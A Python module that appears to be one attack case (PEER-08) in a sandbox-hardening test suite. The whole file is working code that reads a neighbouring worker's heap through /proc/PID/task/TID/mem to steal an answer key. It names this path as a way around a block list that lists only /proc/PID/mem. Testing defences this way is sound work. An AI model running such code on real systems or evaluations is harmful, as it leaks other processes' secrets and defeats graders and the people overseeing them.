# SPDX-License-Identifier: MIT
"""Goal:  the answer key, which the worker keeps on its heap.
Means: each thread has a folder of its own, /proc/PID/task/TID, with the same files as the process:
       maps tells where the writable memory is, mem gives it out by pread. A list of paths that
       names /proc/PID/mem knows nothing of it.
"""

import os
import re

from attack import DONE, attempting, denied, loot, neighbours

MIB = 1 << 20
BUDGET, CHUNK, OVERLAP = 64 * MIB, MIB, 64  # an answer across two chunks must not be lost
ANSWER = re.compile(rb"ANSWER-KEY:[0-9a-f]{32}")


def regions(task):
    """The writable parts of a thread's memory, as (from, to)."""
    with open(f"{task}/maps", encoding="ascii", errors="replace") as maps:
        for line in maps:
            where, perms = line.split()[:2]
            if perms[1] == "w":
                start, end = where.split("-")
                yield int(start, 16), int(end, 16)


def search(pid):
    """The answer in a process's memory, or None."""
    left, task = BUDGET, f"/proc/{pid}/task/{pid}"  # the first thread's
    with open(f"{task}/mem", "rb", buffering=0) as mem:
        for start, end in regions(task):
            for at in range(start, end, CHUNK - OVERLAP):
                size = min(CHUNK, end - at)
                left -= size
                if left < 0:
                    return None
                try:
                    hit = ANSWER.search(os.pread(mem.fileno(), size, at))
                except OSError:
                    break  # not every mapping can be read
                if hit:
                    return hit.group()
    return None


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            found = search(pid)
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/proc/PID/task/TID/mem", why)


ATTACK = {
    "effect": "the worker's memory is read through /proc",
    "means": "os.pread() of /proc/PID/task/TID/mem, which is another name for /proc/PID/mem",
    "oracle": "secret:worker-memory",
    "id": "PEER-08",
    "attack_id": "T1057, T1003.007, CWE-200",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc(5)", "landlock(7), Ptrace restrictions"],
    "run": run,
}
